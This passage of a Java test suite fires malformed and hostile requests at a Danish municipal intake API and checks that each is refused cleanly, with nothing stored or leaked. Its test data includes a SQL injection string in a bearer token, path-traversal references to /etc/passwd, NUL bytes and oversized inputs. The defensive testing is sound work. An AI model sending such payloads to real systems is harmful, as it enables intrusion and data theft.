                        with(NOTIFICATION, "description", jsonString("y".repeat(4_000))))) + "]}").getBytes(StandardCharsets.UTF_8),
                Map.of(), Expect.REJECT, null, null, null));
        return cases;
    }

    List<Case> credentials() {
        List<Case> cases = new ArrayList<>();
        String body = Bodies.notification();
        cases.add(Case.reject("a 6 KB bearer token", "POST", NOTIFICATIONS, Http.bearer("t".repeat(6_000)), JSON, body));
        cases.add(Case.reject("a bearer token with SQL", "POST", NOTIFICATIONS, Http.bearer("' OR '1'='1"), JSON, body));
        cases.add(Case.reject("a bearer token followed by another", "POST", NOTIFICATIONS, "Bearer demo-skole demo-politi", JSON, body));
        cases.add(Case.reject("Basic with garbage", "POST", PARTNERS, "Basic %%%not-base64%%%", JSON, Bodies.partner()));
        cases.add(Case.reject("Basic without a colon", "POST", PARTNERS, "Basic YWRtaW4=", JSON, Bodies.partner()));
        cases.add(Case.reject("Basic admin with an empty password", "POST", PARTNERS, Http.basic("admin", ""), JSON, Bodies.partner()));
        cases.add(Case.reject("Basic with a 6 KB user", "POST", PARTNERS, Http.basic("u".repeat(6_000), "x"), JSON, Bodies.partner())
                .expect(Expect.CONNECTOR));
        return cases;
    }

    // ---------------------------------------------------------------- running a case

    @TestFactory
    @Order(1)
    Stream<DynamicNode> hostileRequests() {
        Map<String, List<Case>> corpus = corpus();
        int total = corpus.values().stream().mapToInt(List::size).sum();
        assertThat(total).as("corpus size").isGreaterThanOrEqualTo(200);
        return corpus.entrySet().stream().map(group -> DynamicContainer.dynamicContainer(
                group.getKey() + " (" + group.getValue().size() + ")",
                group.getValue().stream().map(c -> DynamicTest.dynamicTest(c.name() + " → " + c.expect(), () -> run(c)))));
    }

    Map<String, Long> counts() {
        Map<String, Long> counts = new LinkedHashMap<>();
        for (String table : TABLES) {
            counts.put(table, jdbc.queryForObject("select count(*) from " + table, Long.class));
        }
        return counts;
    }

    void run(Case c) throws Exception {
        Map<String, Long> before = counts();
        String path = c.path().replace("{POLICE}", policeNotification).replace("{SCHOOL}", schoolConcern);
        Client.Response response = new Client(port).send(c.method(), path, c.authorization(), c.contentType(), c.body().get(),
                c.headers());
        Map<String, Long> after = counts();
        String description = c.name() + ": " + response;
        System.out.println("HOSTILE | " + c.name().replaceAll("\\p{Cntrl}", "?") + " | " + c.expect() + " | " + response.status()
                + " | " + response.contentType());
        if (c.expect() == Expect.REJECT_OR_CLOSED && response.status() == -1) {
            assertThat(after).as("nothing stored: " + c.name()).isEqualTo(before);
            return;
        }
        assertThat(response.status()).as(description).isBetween(200, 499);
        if (c.expect() == Expect.TOLERATED) {
            System.out.println("LENIENT | " + c.name() + " | " + response.status());
            if (response.status() / 100 == 2) {
                long more = after.get("trekant_incident") - before.get("trekant_incident")
                        + after.get("trekant_partner") - before.get("trekant_partner")
                        + after.get("trekant_adult_referral") - before.get("trekant_adult_referral");
                assertThat(more).as(description).isBetween(0L, 1L);
                return;
            }
        }
        if (c.expect() == Expect.CONNECTOR) {
            assertThat(response.status()).as(description).isEqualTo(400);
            assertThat(response.body()).as("no stack trace or version").doesNotContain("Exception", "at org.", "Tomcat/");
            assertThat(response.isProblemJson()).as("problem+json from Tomcat itself: " + description).isTrue();
            assertThat(after).as("nothing stored: " + c.name()).isEqualTo(before);
            return;
        }
        switch (c.expect()) {
            case REJECT, TOLERATED, REJECT_OR_CLOSED, CONNECTOR -> {
                if (c.status() != 0) {
                    assertThat(response.status()).as(description).isEqualTo(c.status());
                }
                if (response.status() == 405) {
                    assertThat(response.headers()).as("Allow: " + description).containsKey("allow");
                }
                assertThat(response.status()).as(description).isBetween(400, 499);
                assertThat(response.isProblemJson()).as("problem+json: " + description).isTrue();
                JsonNode problem = json.readTree(response.body());
                assertThat(problem.get("status").asInt()).isEqualTo(response.status());
                assertThat(response.body()).as("no stack trace").doesNotContain("Exception", "at dk.", "at org.");
                if (c.echo() != null) {
                    assertThat(response.body()).as("the rejected value is not echoed").doesNotContain(c.echo());
                }
                assertThat(after).as("nothing stored: " + c.name()).isEqualTo(before);
            }
            case BATCH_ALL_REJECTED -> {
                assertThat(response.status()).as(description).isEqualTo(200);
                JsonNode result = json.readTree(response.body());
                assertThat(result.get("accepted").asInt()).isZero();
                assertThat(result.get("rejected").asInt()).isEqualTo(result.get("items").size()).isPositive();
                assertThat(after).as("nothing stored: " + c.name()).isEqualTo(before);
            }
            case ACCEPT -> {
                assertThat(response.status()).as(description).isEqualTo(201);
                checkStored(c, json.readTree(response.body()), before, after);
            }
        }
    }

    void checkStored(Case c, JsonNode answer, Map<String, Long> before, Map<String, Long> after) {
        if (c.path().equals(PARTNERS)) {
            assertThat(after.get("trekant_partner")).isEqualTo(before.get("trekant_partner") + 1);
            assertThat(after.get("trekant_incident")).isEqualTo(before.get("trekant_incident"));
            if (c.storedColumn() != null) {
                String stored = jdbc.queryForObject("select name from trekant_partner where id = ?", String.class,
                        UUID.fromString(answer.get("partner").get("id").asText()));
                assertThat(stored).isEqualTo(c.storedValue());
            }
            return;
        }
        boolean release = c.path().equals(RELEASES);
        String submissions = release ? "trekant_adult_referral" : "trekant_incident";
        assertThat(after.get(submissions)).isEqualTo(before.get(submissions) + 1);
        assertThat(after.get("trekant_partner")).isEqualTo(before.get("trekant_partner"));
        UUID id = UUID.fromString(answer.get("id").asText());
        if (c.storedColumn() != null) {
            String[] column = c.storedColumn().split("\\.");
            String sql = column[0].equals("youth")
                    ? "select y." + column[1] + " from trekant_youth y join " + submissions + " s on s." + (release ? "person_id" : "youth_id")
                            + " = y.id where s.id = ?"
                    : "select " + column[1] + " from " + submissions + " where id = ?";
            String stored = jdbc.queryForObject(sql, String.class, id);
            assertThat(stored).as("stored verbatim: " + c.name()).isEqualTo(c.storedValue());
        }
        // and shown to no partner: neither in the answer nor in the receipt read later
        String authorization = c.authorization();
        Client.Response receipt = new Client(port).get(c.path() + "/" + id, authorization);
        assertThat(receipt.status()).isEqualTo(200);
        JsonNode read = readTree(receipt.body());
        assertThat(read.get("id")).isEqualTo(answer.get("id"));
        assertThat(read.get("reference")).isEqualTo(answer.get("reference"));
        if (c.storedValue() != null && !c.storedColumn().endsWith("partner_reference")) {
            assertThat(receipt.body()).doesNotContain(c.storedValue());
            assertThat(answer.toString()).doesNotContain(c.storedValue());
        }
        acceptedNotifications.add(id.toString());
    }

    static JsonNode readTree(String body) {
        try {
            return json.readTree(body);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /**
     * A multipart type without a boundary once failed with 500 in front of every endpoint, even GET
     * ones; a partner of the wrong kind learnt the body's rules (400) before being refused (403).
     */
    @Test
    @Order(1)
    void permissionComesBeforeTheBodyAndNoContentTypeBreaksARequest() {
        Client client = new Client(port);
        for (String type : List.of("multipart/form-data", "multipart/mixed", "multipart/form-data; boundary=")) {
            Client.Response read = client.send("GET", NOTIFICATIONS + "/" + policeNotification, POLICE, type, null, Map.of());
            assertThat(read.status()).as(type + ": " + read).isEqualTo(200);
            Client.Response staff = client.send("GET", PARTNERS, ADMIN, type, null, Map.of());
            assertThat(staff.status()).as(type + ": " + staff).isEqualTo(200);
            Client.Response sent = client.send("POST", NOTIFICATIONS, POLICE, type, Bodies.notification().getBytes(StandardCharsets.UTF_8),
                    Map.of());
            assertThat(sent.status()).as(type + ": " + sent).isEqualTo(415);
            assertThat(sent.isProblemJson()).isTrue();
            assertThat(sent.headers()).containsEntry("accept", "application/json");
        }
        // The wrong kind of partner is refused before its body is looked at: invalid, unreadable or of another type.
        for (String body : List.of("{}", "{", "{\"items\": 7}", Bodies.notification())) {
            for (String path : List.of(NOTIFICATIONS, BATCHES, RELEASES)) {
                Client.Response refused = client.send("POST", path, SCHOOL, JSON, body.getBytes(StandardCharsets.UTF_8), Map.of());
                assertThat(refused.status()).as(path + " " + body + ": " + refused).isEqualTo(403);
                Client.Response wrongType = client.send("POST", path, SCHOOL, "text/plain", body.getBytes(StandardCharsets.UTF_8), Map.of());
                assertThat(wrongType.status()).as(path + " as text: " + wrongType).isEqualTo(403);
            }
            Client.Response concern = client.send("POST", CONCERNS, POLICE, JSON, body.getBytes(StandardCharsets.UTF_8), Map.of());
            assertThat(concern.status()).as("concern " + body + ": " + concern).isEqualTo(403);
        }
    }

    /** What an outside test got through (issue 16): each is refused now, naming the field, storing nothing. */
    @Test
    @Order(1)
    void theOutsideTestsFindingsAreRefused() throws Exception {
        Client client = new Client(port);
        String notification = Bodies.notification();
        String occurredAt = json.readTree(notification).get("occurredAt").asText();
        for (String date : List.of("0001-01-01T00:00:00Z", "1999-12-31T12:00:00+01:00", "1000-01-01T00:00:00Z")) {
            refused(client, "POST", NOTIFICATIONS, POLICE, notification.replace(occurredAt, date), 400, "occurredAt");
        }
        String concern = Bodies.concern();
        String observedAt = json.readTree(concern).get("observedAt").asText();
        refused(client, "POST", CONCERNS, SCHOOL, concern.replace(observedAt, "0001-01-01T00:00:00Z"), 400, "observedAt");
        String release = Bodies.releaseNotification();
        JsonNode parsed = json.readTree(release);
        for (String date : List.of("9999-12-31", "+275760-09-13", LocalDate.now().plusYears(6).toString())) {
            refused(client, "POST", RELEASES, KRIMINALFORSORGEN,
                    release.replace(parsed.get("expectedReleaseDate").asText(), date), 400, "expectedReleaseDate");
        }
        refused(client, "POST", RELEASES, KRIMINALFORSORGEN,
                release.replace(parsed.get("consent").get("recordedOn").asText(), "1000-01-01"), 400, "consent.recordedOn");
        for (String reference : List.of("../../../../etc/passwd", "file:///etc/passwd", "..", "-x", "POL/2026:1")) {
            refused(client, "POST", NOTIFICATIONS, POLICE, Bodies.notification(reference, Bodies.cpr()), 400, "reference");
        }
        // Blank, NUL or half coordinates are errors, not a silent null.
        String hotspot = Bodies.hotspotProposal();
        String address = "\"location\":{\"address\":\"Taastrup Stationsvej 1\"}";
        for (String location : List.of("\"location\":{\"address\":\"Vej 1\",\"latitude\":\"\\u0000\",\"longitude\":12.3}",
                "\"location\":{\"address\":\"Vej 1\",\"latitude\":\"   \",\"longitude\":12.3}",
                "\"location\":{\"address\":\"Vej 1\",\"latitude\":55.6}")) {
            refused(client, "POST", "/api/v1/hotspot-proposals", POLICE, hotspot.replace(address, location), 400, "location.l");
        }
        for (String withPolice : List.of("\"\\u0000\"", "\"   \"")) {
            refused(client, "POST", "/api/v1/outreach-requests", SCHOOL, """
                    {"reference":"%s","kind":"INSTITUTION_OUTREACH","place":"Skolen","description":"Uro i frikvarteret","withPolice":%s}"""
                    .formatted(Bodies.reference(), withPolice), 400, "withPolice");
        }
        refused(client, "POST", "/api/v1/outreach-requests", SCHOOL, """
                {"reference":"%s","kind":"INSTITUTION_OUTREACH","place":"Skolen","description":"Uro","wantedFrom":"9999-12-31T10:00:00Z"}"""
                .formatted(Bodies.reference()), 400, "wantedFrom");

        // One check for CPR numbers in every free-text field of every intake.
        String cprText = "især 120311-4101 og 0302104303";
        refused(client, "POST", NOTIFICATIONS, POLICE, notification.replace("\"place\":\"", "\"place\":\"" + cprText), 400, "place");
        refused(client, "POST", CONCERNS, SCHOOL, concern.replaceFirst("\"description\":\"", "\"description\":\"" + cprText), 400,
                "description");
        refused(client, "POST", RELEASES, KRIMINALFORSORGEN, release.replace("\"institutionName\":\"", "\"institutionName\":\"" + cprText),
                400, "institutionName");
        refused(client, "POST", "/api/v1/outreach-requests", SCHOOL, """
                {"reference":"%s","kind":"INSTITUTION_OUTREACH","place":"Skolen","description":"Uro: %s"}"""
                .formatted(Bodies.reference(), cprText), 400, "description");
        refused(client, "POST", "/api/v1/teaching-requests", SCHOOL, Bodies.teachingRequest().replace("}", ",\"note\":\"" + cprText + "\"}"),
                400, "note");

        // A rejected item of the weekly list names its reference in at most 64 characters.
        String huge = "R".repeat(2 * MB);
        Client.Response list = client.postJson(BATCHES, POLICE, "{\"items\":[{\"reference\":\"" + huge + "\"}]}");
        assertThat(list.status()).as(list.toString()).isIn(200, 413);
        assertThat(list.body().length()).isLessThan(4_000);

        // The rules before the duplicate: a resend that breaks them is refused, not answered with the old receipt.
        String teaching = Bodies.teachingRequest();
        assertThat(client.postJson("/api/v1/teaching-requests", SCHOOL, teaching).status()).isEqualTo(201);
        refused(client, "POST", "/api/v1/teaching-requests", SCHOOL, teaching.replace("RUSMIDLER", "UKENDT"), 400, "topic");

        // Any change to a cancelled release is 409; the same cancellation again is a resend.
        String reference = Bodies.reference();
        assertThat(client.postJson(RELEASES, KRIMINALFORSORGEN, Bodies.releaseNotification(reference)).status()).isEqualTo(201);
        String cancel = "{\"cancelled\":true,\"cancellationReason\":\"NY_DOM\"}";
        assertThat(client.putJson(RELEASES + "/" + reference, KRIMINALFORSORGEN, cancel).status()).isEqualTo(200);
        assertThat(client.putJson(RELEASES + "/" + reference, KRIMINALFORSORGEN, cancel).status()).isEqualTo(200);
        refused(client, "PUT", RELEASES + "/" + reference, KRIMINALFORSORGEN,
                "{\"cancelled\":true,\"cancellationReason\":\"ANDEN_KOMMUNE\"}", 409, null);
    }

    private void refused(Client client, String method, String path, String authorization, String body, int status, String field)
            throws Exception {
        Map<String, Long> before = counts();
        Client.Response answer = client.send(method, path, authorization, JSON, body.getBytes(StandardCharsets.UTF_8), Map.of());
        assertThat(answer.status()).as(path + " " + body.substring(0, Math.min(200, body.length())) + ": " + answer).isEqualTo(status);
        assertThat(answer.isProblemJson()).as(answer.toString()).isTrue();
        if (field != null) {
            assertThat(answer.body()).as("names the field").contains("\"field\":\"" + field);
        }
        assertThat(counts()).as("nothing stored").isEqualTo(before);
    }

    @Test
    @Order(2)
    void theApplicationIsHealthyAfterwards() throws Exception {
        Client client = new Client(port);
        assertThat(client.get("/actuator/health", null).status()).isEqualTo(200);
        Client.Response notification = client.postJson(NOTIFICATIONS, POLICE, Bodies.notification());
        assertThat(notification.status()).as(notification.toString()).isEqualTo(201);
        Client.Response concern = client.postJson(CONCERNS, SCHOOL, Bodies.concern());
        assertThat(concern.status()).as(concern.toString()).isEqualTo(201);
        Client.Response partner = client.postJson(PARTNERS, ADMIN, Bodies.partner());
        assertThat(partner.status()).as(partner.toString()).isEqualTo(201);
        assertThat(client.get(NOTIFICATIONS + "/" + json.readTree(notification.body()).get("id").asText(), POLICE).status())
                .isEqualTo(200);
        // every table is still there (no injection reached SQL)
        assertThat(counts()).allSatisfy((table, count) -> assertThat(count).isPositive());
    }
}
